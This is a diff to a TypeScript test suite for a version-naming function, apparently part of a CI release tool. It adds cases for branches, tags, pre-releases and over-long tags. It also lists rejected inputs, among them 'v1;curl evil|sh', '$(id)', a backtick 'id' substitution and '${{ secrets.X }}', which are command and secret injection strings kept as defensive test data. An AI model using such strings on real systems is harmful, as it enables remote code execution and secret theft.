@@ -104,6 +104,54 @@ const ROWS: readonly Row[] = [
     version: "0.0.0-b007.20261121094400.g1a2b3c4d5e6f",
   },
   {
+    what: "a branch whose name a chart cannot have, as a pre-release",
+    facts: facts(branch("Ünïcode/§!"), { nearest: { tag: "v1.2.3", commits: 0 } }),
+    request: { pattern: "semver" },
+    version: "1.2.4-n-code.20261121094400.0.g1a2b3c4d5e6f",
+  },
+  {
+    what: "a release that the forge calls a pre-release",
+    facts: facts({ kind: "tag", tag: "v3.0.0", commit: COMMIT, isPrerelease: true }, { tags: ALL }),
+    request: followed,
+    version: "3.0.0",
+    moving: [],
+  },
+  {
+    what: "a release whose short tags were not asked for",
+    facts: facts(tag("v3.0.0"), { tags: ALL }),
+    request: { latest: true },
+    version: "3.0.0",
+    moving: ["latest"],
+  },
+  {
+    what: "a release that asks for short tags alone",
+    facts: facts(tag("v3.0.0"), { tags: ALL }),
+    request: { shortTags: true },
+    version: "3.0.0",
+    moving: ["3.0", "3"],
+  },
+  {
+    what: "a release of an app that stands before its version without a slash",
+    facts: facts(tag("app-v1.2.3"), { tags: ["app-v1.2.3", "v9.0.0"] }),
+    request: { ...followed, tagPrefix: "app-" },
+    version: "1.2.3",
+    moving: ["1.2", "1", "latest"],
+  },
+  {
+    what: "a Git tag of more than 128 characters",
+    facts: facts(tag("x".repeat(200))),
+    version: "x".repeat(200),
+    tag: "x".repeat(128),
+    chart: UNVERSIONED_CHART,
+  },
+  {
+    what: "a merge queue's group to which the call gives a version",
+    facts: facts({ kind: "merge-group", commit: COMMIT }),
+    request: { version: "7.0.0" },
+    version: "7.0.0",
+    releasable: false,
+  },
+  {
     what: "a branch as git describes it",
     facts: facts(branch("main"), { nearest: { tag: "app/v1.2.3", commits: 4 } }),
     request: { pattern: "describe", tagPrefix: "app/" },
@@ -130,7 +178,7 @@ const ROWS: readonly Row[] = [
     releasable: false,
   },
   {
-    what: "a fork's pull request after another workflow",
+    what: "a pull request whose number the event does not say",
     facts: facts({ kind: "pull-request", number: null, commit: COMMIT, merge: null }),
     version: "pr-1a2b3c4d5e6f",
     chart: UNVERSIONED_CHART,
@@ -173,6 +221,16 @@ test("the Git tag of another app of the repository is not this one's", () => {
   expect(versionOf(facts(tag("other/v1.2.3")), request({ tagPrefix: "app/" }))).toBeNull();
 });
 
+test.each(["semver", "describe"] as const)(
+  "a Git tag so long that the commit would be cut off `%s` is refused",
+  (pattern) => {
+    const nearest = { tag: `v1.2.3-${"a".repeat(115)}`, commits: 4 };
+    expect(() => versionOf(facts(branch("main"), { nearest }), request({ pattern }))).toThrow(
+      /has 1\d\d characters, and a tag holds 128; shorten the Git tag that it begins with, or choose another `pattern`/,
+    );
+  },
+);
+
 test("git describe without a tag says what to change", () => {
   expect(() => versionOf(facts(branch("main")), request({ pattern: "describe", tagPrefix: "app/" }))).toThrow(
     /no Git tag that starts with "app\/" is reachable.*fetch-depth: 0/,
@@ -180,12 +238,25 @@ test("git describe without a tag says what to change", () => {
 });
 
 describe("a version that no tag can hold is rejected", () => {
-  test.each(["v1;curl evil|sh", "$(id)", "${{ secrets.X }}", "a".repeat(129), ".1", "-1", "1 2", "", "1\n2"])(
-    "%j",
-    (version) => {
-      expect(() => versionOf(facts(branch("main")), request({ version }))).toThrow(/the input `version` is/);
-    },
-  );
+  test.each([
+    "v1;curl evil|sh",
+    "`id`",
+    "a/b",
+    "ä",
+    "v1:2",
+    "v1@2",
+
+    "$(id)",
+    "${{ secrets.X }}",
+    "a".repeat(129),
+    ".1",
+    "-1",
+    "1 2",
+    "",
+    "1\n2",
+  ])("%j", (version) => {
+    expect(() => versionOf(facts(branch("main")), request({ version }))).toThrow(/the input `version` is/);
+  });
 });
 
 test("later commits of a branch sort behind earlier ones, by name and by Waybill's own order", () => {
